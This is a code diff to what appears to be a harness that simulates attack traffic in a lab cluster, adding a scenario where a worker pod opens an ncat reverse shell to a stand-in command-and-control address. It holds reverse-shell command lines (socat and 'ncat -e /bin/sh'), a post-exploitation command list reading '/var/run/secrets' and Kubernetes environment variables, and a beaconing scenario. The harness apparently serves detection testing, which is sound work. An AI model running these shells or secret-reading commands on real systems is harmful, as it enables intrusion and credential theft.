@@ -265,9 +265,11 @@ SHELL_COMMANDS = ("id", "uname -a", "hostname", "ls -la /", "cat /etc/os-release
                   "ls /var/run/secrets 2>&1", "env | grep -i kube | head -3", "df -h | head -3", "exit")
 
 
-def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool) -> Callable[[Node, Path], None]:
-    """The web pod (a server, as after a remote code execution) connects out to the operator's listener and
-    hands it a shell; the operator types a short session at a human pace, whole lines or key by key."""
+def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool, pod: str = "web"
+                   ) -> Callable[[Node, Path], None]:
+    """``pod`` connects out to the operator's listener and hands it a shell: the web pod (a server, as
+    after a remote code execution), or a worker that serves nothing (as a poisoned dependency's install
+    script runs in a Job); the operator types a short session at a human pace, whole lines or key by key."""
 
     def attack(node: Node, work: Path) -> None:
         node.add_address("c2", C2_IP)
@@ -275,7 +277,7 @@ def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool) -> C
         victim = None
         try:
             time.sleep(1.0)
-            victim = node.start("web", *shell, **QUIET)
+            victim = node.start(pod, *shell, **QUIET)
             time.sleep(2.0)
             _operate(operator, keystrokes)
         finally:
@@ -509,6 +511,11 @@ SCENARIOS = (
              _reverse_shell(["socat", "-", f"TCP-LISTEN:4445,bind={C2_IP}"],
                             ["socat", f"TCP:{C2_IP}:4445", "EXEC:/bin/sh -i,pty,stderr,setsid,sane"], keystrokes=True),
              ("socat",)),
+    Scenario("ncat reverse shell from a worker", "ncat -e /bin/sh from a worker pod that serves nothing to ncat -l "
+             "on 4449; 10 commands typed as lines", "reverse_shell", "worker", ("worker", "c2"),
+             _reverse_shell(["ncat", "-l", C2_IP, "4449"], ["ncat", C2_IP, "4449", "-e", "/bin/sh"], keystrokes=False,
+                            pod="worker"),
+             ("ncat",)),
     Scenario("TLS beacon in one mTLS session", "Python ssl client with a certificate, a heartbeat every 2 s +-10% "
              "x30 in one connection, to openssl s_server -rev -Verify on 443", "beaconing", "implant",
              ("implant", "c2"), _tls_beacon_session, ("openssl",)),
